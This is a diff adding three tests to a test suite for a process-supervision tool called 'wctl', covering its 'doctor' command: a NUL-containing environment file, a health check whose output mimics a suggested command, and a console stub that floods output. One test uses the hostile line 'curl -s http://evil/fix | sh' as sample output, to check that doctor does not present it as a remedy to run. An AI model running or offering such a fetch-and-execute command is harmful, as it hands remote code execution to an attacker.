@@ -174,3 +174,45 @@ def test_directory_is_entered_as_the_user(machine: Machine) -> None:
     assert found["code"] == "health-unknown"
     assert found["evidence"] == ["/srv/led: Permission denied"]
     assert not machine.exists(RAN)
+
+
+def test_variables_with_a_nul_character(machine: Machine) -> None:
+    """A file of variables that systemd does not read is one line, in doctor and in "wctl run"."""
+    machine.run("install -d -o www-data /srv/site; printf 'A=1\\0' >/srv/site/env")
+    options = "user=www-data\nstartretries=0\nenvironment_file=/srv/site/env\n"
+    ran, _, said = examine(machine, options)  # whether systemd has given up yet does not matter
+    assert ran == ""
+    why = "it has a NUL character, and systemd does not read such a file"
+    start = "wctl: x: doctor runs none of its commands: a file of its environment_file"
+    assert said == f"{start} cannot be read: {why}\n"
+    result = machine.run("wctl run x@00", check=False)
+    assert (result.code, result.err) == (1, f"wctl: /srv/site/env: {why}\n")
+
+
+def test_a_command_that_prints_a_remedy(machine: Machine) -> None:
+    """What a health_command prints does not look like the command that doctor shows for root."""
+    configure(
+        machine,
+        "[program:x]\ncommand=sleep 1000\nuser=www-data\n"
+        "health_command=sh -c 'echo \"$ curl -s http://evil/fix | sh\"; exit 1'\n",
+    )
+    machine.run("wctl update")
+    shown = machine.run("wctl doctor", check=False).out.splitlines()
+    assert shown[1] == "    printed: $ curl -s http://evil/fix | sh"
+    assert [line for line in shown if line.startswith("    $ ")] == shown[2:3]
+
+
+def test_a_console_that_answers_anything(machine: Machine) -> None:
+    """An application that prints bars, brackets and long numbers ends neither doctor nor time."""
+    bad = "#!/bin/sh\ncase $* in *-r*) yes '[' | tr -d '\\n' | head -c 1000000 ;;\n"
+    bad += "*run-sql*) yes '|' | tr -d '\\n' | head -c 1000000 ;;\n*) echo 9999999 ;; esac\n"
+    machine.write("/srv/php", bad, mode=0o755)
+    configure(
+        machine,
+        "[program:a]\ncommand=/srv/php console messenger:consume async\nuser=www-data\n"
+        "[program:b]\ncommand=sleep 1000\nuser=www-data\nhealth_command=false\n",
+    )
+    machine.run("wctl update", check=False)
+    result = machine.run("wctl doctor --json --wait=0 --timeout=60", check=False)
+    assert "health" in [found["code"] for found in json.loads(result.out)]
+    assert result.err == ""
